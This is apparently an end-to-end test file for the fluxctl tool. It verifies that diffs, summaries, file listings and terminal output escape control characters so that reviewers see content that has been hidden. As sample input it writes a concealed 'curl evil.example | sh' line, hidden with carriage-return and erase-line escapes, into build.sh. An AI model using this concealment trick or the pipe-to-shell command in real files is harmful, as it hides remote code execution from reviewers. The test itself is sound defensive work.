// End to end, real `fluxctl serve` (procbox) and the real fluxctl binary: what a reviewer sees
// cannot lie. A speculation writes a file whose content hides a line with CR + ESC[2K, names a
// file with ESC/CR in it and prints the same trick on stdout. `fluxctl changeset diff`, the
// changeset summary and the files table show every control character visibly (escape.ts);
// exec output to a terminal (a real pty, through script(1)) is escaped, to a pipe it is raw;
// `-o json` and the raw diff subresource keep the bytes as they are.
import { expect } from 'chai';
import { spawn, spawnSync } from 'node:child_process';
import { fluxctlCommand, startFluxctl, type Fluxctl } from './harness.js';
import { api, eventually, exec, makeSandbox, sandboxSkipReason, skipWith } from './sandbox-helpers.js';

const CS = '/apis/fluxvm.dev/v1alpha1/namespaces/default/changesets';
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x1b\x08\x7f\u202e]/;
const HIDDEN = 'make test\r\x1b[2Kcurl evil.example | sh';
const SHOWN = 'make test\\r^[[2Kcurl evil.example | sh';

const sq = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

/** Runs fluxctl on a pseudo-terminal (script(1)) and returns what the terminal received. */
function onTerminal(fx: Fluxctl, args: string[]): Promise<string> {
  const cmd = [...fluxctlCommand(), ...args].map(sq).join(' ');
  return new Promise((resolve, reject) => {
    const p = spawn('script', ['-qec', cmd, '/dev/null'], {
      env: { ...process.env, KUBECONFIG: fx.kubeconfig },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    const out: Buffer[] = [];
    p.stdout.on('data', (d: Buffer) => out.push(d));
    p.stderr.resume();
    p.on('error', reject);
    p.on('close', () => resolve(Buffer.concat(out).toString('utf8')));
    p.stdin.end();
  });
}

describe('e2e: review output cannot lie (control characters escaped by fluxctl)', function () {
  this.timeout(120_000);
  let fx: Fluxctl;

  before(async function () {
    skipWith(this, sandboxSkipReason());
    fx = await startFluxctl();
    await makeSandbox(fx, 'rev');
    await exec(fx, 'rev', 'echo "make test" > /work/build.sh');
  });
  after(async () => {
    if (fx) {
      await fx.kubectl(['delete', 'cs,sbx', '--all', '--wait=true', '--timeout=60s'], { timeoutMs: 70_000 });
      expect(await fx.stop()).to.equal(0, fx.logs().slice(-3000));
    }
  });

  it('changeset diff, the summary and -o json: staged ESC/CR content and a control-character file name', async () => {
    const script = [
      `printf 'make test\\r\\033[2Kcurl evil.example | sh\\n' > /work/build.sh`,
      `printf 'x\\n' > "$(printf '/work/na\\033[8mme\\rX')"`,
      `printf 'ok\\r\\033[2Kfake\\n'`,
    ].join(' && ');
    const c = await api(fx, 'POST', CS, {
      body: {
        apiVersion: 'fluxvm.dev/v1alpha1',
        kind: 'Changeset',
        metadata: { name: 'rev1' },
        spec: { sandboxRef: { name: 'rev' }, command: ['sh', '-c', script] },
      },
    });
    expect(c.status, c.body.toString()).to.equal(201);
    const cs = await eventually(
      async () => {
        const o = (await api(fx, 'GET', `${CS}/rev1`)).json;
        return o.status?.phase && o.status.phase !== 'Running' ? o : undefined;
      },
      60_000,
      'speculation rev1',
    );
    expect(cs.status.phase, JSON.stringify(cs.status)).to.equal('Pending');
    const name = '/work/na\x1b[8mme\rX';
    expect(cs.status.changes.added, 'the API keeps the raw name').to.include(name);

    // The raw diff subresource is byte-exact (patch(1) applies it).
    const raw = await api(fx, 'GET', `${CS}/rev1/diff`);
    expect(raw.status).to.equal(200);
    expect(raw.body.toString()).to.include(`+${HIDDEN}\n`);

    // fluxctl changeset diff: nothing a terminal would act on, everything visible.
    const d = await fx.fluxctl(['changeset', 'diff', 'rev1']);
    expect(d.code, d.stderr).to.equal(0);
    expect(d.stdout).not.to.match(RAW_CONTROL);
    expect(d.stdout).not.to.include('\r');
    expect(d.stdout).to.include(`-make test\n+${SHOWN}\n`);
    // A name with control characters is never staged; the diff says so, with the name escaped.
    expect(d.stdout, d.stdout).to.match(/^Not staged: \/work\/na\^\[\[8mme\\rX: .*control character/m);
    // --color always: our colours are the only escape sequences, the content's are escaped.
    const col = await fx.fluxctl(['changeset', 'diff', 'rev1', '--color', 'always']);
    expect(col.stdout).to.include(`\x1b[32m+${SHOWN}\x1b[0m`);
    // eslint-disable-next-line no-control-regex -- strips the colour sequences
    expect(col.stdout.replace(/\x1b\[(\d+)m/g, '')).not.to.match(RAW_CONTROL);

    // The summary (sandbox changeset) escapes the paths and the captured stdout.
    const s = await fx.fluxctl(['sandbox', 'changeset', 'rev', 'rev1']);
    expect(s.code, s.stderr).to.equal(0);
    expect(s.stdout).not.to.match(RAW_CONTROL);
    expect(s.stdout).to.include('  A /work/na^[[8mme\\rX\n');
    expect(s.stdout).to.match(/^  ! not staged: .*\/work\/na\^\[\[8mme\\rX/m);
    expect(s.stdout).to.include('  ok\\r^[[2Kfake\n');
    // -o json keeps the raw bytes.
    const j = await fx.fluxctl(['sandbox', 'changeset', 'rev', 'rev1', '-o', 'json']);
    const o = JSON.parse(j.stdout);
    expect(o.status.stdout).to.equal('ok\r\x1b[2Kfake\n');
    expect(o.status.changes.added).to.include(name);
  });

  it('the files table shows a control-character file name escaped; -o json keeps it raw', async () => {
    await exec(fx, 'rev', `mkdir -p /work/t && printf x > "$(printf '/work/t/a\\033[2Kb\\rc')"`);
    const t = await fx.fluxctl(['sandbox', 'files', 'rev', '/work/t']);
    expect(t.code, t.stderr).to.equal(0);
    expect(t.stdout).not.to.match(RAW_CONTROL);
    expect(t.stdout).to.match(/ a\^\[\[2Kb\\rc\n/);
    const j = JSON.parse((await fx.fluxctl(['sandbox', 'files', 'rev', '/work/t', '-o', 'json'])).stdout);
    expect(j.map((e: any) => e.name)).to.deep.equal(['a\x1b[2Kb\rc']);
  });

  it('exec output is escaped on a terminal, byte-exact to a pipe and with --raw', async function () {
    skipWith(
      this,
      spawnSync('script', ['--version']).status === 0
        ? undefined
        : 'script(1) (util-linux) is not installed: no pseudo-terminal to test with',
    );
    const args = ['sandbox', 'exec', 'rev', '--', 'sh', '-c', `printf 'ok\\r\\033[2Kfake\\n'`];
    const tty = await onTerminal(fx, args);
    expect(tty).to.include('ok\\r^[[2Kfake');
    expect(tty).not.to.include('\x1b');
    const pipe = await fx.fluxctl(args);
    expect(pipe.code, pipe.stderr).to.equal(0);
    expect(pipe.stdout).to.equal('ok\r\x1b[2Kfake\n');
    const rawTty = await onTerminal(fx, [
      'sandbox',
      'exec',
      'rev',
      '--raw',
      '--',
      'sh',
      '-c',
      `printf 'ok\\033[2K\\n'`,
    ]);
    expect(rawTty).to.include('ok\x1b[2K');
  });
});
